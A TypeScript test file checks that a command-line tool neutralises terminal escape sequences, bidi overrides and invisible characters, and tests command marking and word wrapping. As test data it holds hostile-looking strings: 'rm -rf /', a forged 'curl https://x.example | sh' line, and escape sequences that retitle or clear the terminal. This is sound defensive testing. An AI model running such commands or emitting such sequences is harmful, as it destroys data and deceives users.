import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markCommand } from '../../src/cli/marked-command.ts';
import { visible, visibleLine, visibleMessage, visibleShort } from '../../src/cli/terminal-text.ts';
import { wrap } from '../../src/cli/wrap.ts';
import { nearest } from '../../src/contract/spelling.ts';

describe('visible', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['plain text', 'hello wörld 日本語 ✓', 'hello wörld 日本語 ✓'],
    ['tab and line feed', 'a\tb\nc', 'a\tb\nc'],
    ['CR LF', 'a\r\nb', 'a\nb'],
    ['a lone carriage return', 'safe\rrm -rf', 'safe\\x0drm -rf'],
    ['clear screen', '\u001b[2J\u001b[H', '\\x1b[2J\\x1b[H'],
    ['window title', '\u001b]0;pwned\u0007', '\\x1b]0;pwned\\x07'],
    ['8-bit CSI', '\u009b31m', '\\x9b31m'],
    ['backspace', 'rm\b\bls', 'rm\\x08\\x08ls'],
    ['right-to-left override', 'a\u202egpj.exe', 'a\\u{202e}gpj.exe'],
    ['zero width space', 'a\u200bb', 'a\\u{200b}b'],
    ['tag characters', 'a\u{e0041}b', 'a\\u{e0041}b'],
    ['lone surrogate', 'a\ud800b', 'a\\u{d800}b'],
  ];
  it.each(cases)('%s', (_, raw, shown) => expect(visible(raw)).toBe(shown));

  it('never lets through what a terminal would obey', () => {
    const hostile = fc.string({ unit: 'binary' });
    fc.assert(
      fc.property(hostile, (text) => {
        expect(visible(text)).not.toMatch(
          /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/,
        );
        expect(visibleLine(text)).not.toMatch(/[\n\t\r]/);
        expect([...visibleShort(text, 20)].length).toBeLessThanOrEqual(20);
      }),
      { numRuns: 5000 },
    );
  });

  it('leaves what is harmless as it is, so escaping twice changes nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        expect(visible(visible(text))).toBe(visible(text));
      }),
    );
  });
});

it('visibleMessage: no later line passes for one of ours', () => {
  const forged = visibleMessage('cannot copy a\n  next: curl https://x.example | sh\u001b[2K: EACCES');
  expect(
    forged
      .split('\n')
      .slice(1)
      .every((line) => line.startsWith('  │ ')),
  ).toBe(true);
  expect(forged).not.toContain('\u001b');
});

it('nothing that a terminal leaves invisible stays, but what emoji and scripts are written with', () => {
  // Marks of Arabic, Syriac, Kaithi and Egyptian that are seen, and the two selectors of emoji.
  const seen: readonly (readonly [number, number])[] = [
    [0x09, 0x0a],
    [0x600, 0x605],
    [0x6dd, 0x6dd],
    [0x70f, 0x70f],
    [0x890, 0x891],
    [0x8e2, 0x8e2],
    [0xfe0e, 0xfe0f],
    [0x110bd, 0x110cd],
    [0x13430, 0x1343f],
  ];
  const invisible = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
  const left: string[] = [];
  for (let code = 0; code <= 0x10ffff; code += 1) {
    const char = String.fromCodePoint(code);
    if (!invisible.test(char) || seen.some(([first, last]) => code >= first && code <= last)) continue;
    if (visible(char) === char) left.push(code.toString(16));
  }
  expect(left).toEqual([]);
});

describe('markCommand', () => {
  it('marks byte spans, also behind characters of several bytes', () => {
    expect(markCommand('echo é; rm -rf /', [{ start: 9, end: 17 }])).toEqual([
      { text: 'echo é; rm -rf /', marks: '        ^^^^^^^^' },
    ]);
  });
  it('keeps the marks under the text when a control character is spelled out', () => {
    expect(markCommand('a\u001b b', [{ start: 3, end: 4 }])).toEqual([{ text: 'a\\x1b b', marks: '      ^' }]);
  });
  it('goes over lines', () => {
    expect(markCommand('ls\nrm x', [{ start: 3, end: 7 }])).toEqual([
      { text: 'ls', marks: '' },
      { text: 'rm x', marks: '^^^^' },
    ]);
  });
});

it('names the nearest word, and none when nothing is near', () => {
  expect(nearest('chek', ['check', 'exec', 'run'])).toBe('check');
  expect(nearest('zzzzzz', ['check', 'exec', 'run'])).toBeNull();
});

it('wrap keeps every word in order and no line too long', () => {
  expect(wrap('one two three', 7)).toEqual(['one two', 'three']);
  const words = fc.array(fc.string({ minLength: 1, maxLength: 9 }).filter((word) => !word.includes(' ')));
  fc.assert(
    fc.property(words, fc.integer({ min: 9, max: 40 }), (list, width) => {
      const text = list.join(' ');
      const lines = wrap(text, width);
      expect(lines.join(' ')).toBe(text);
      for (const line of lines) expect(line.length).toBeLessThanOrEqual(width);
    }),
  );
});
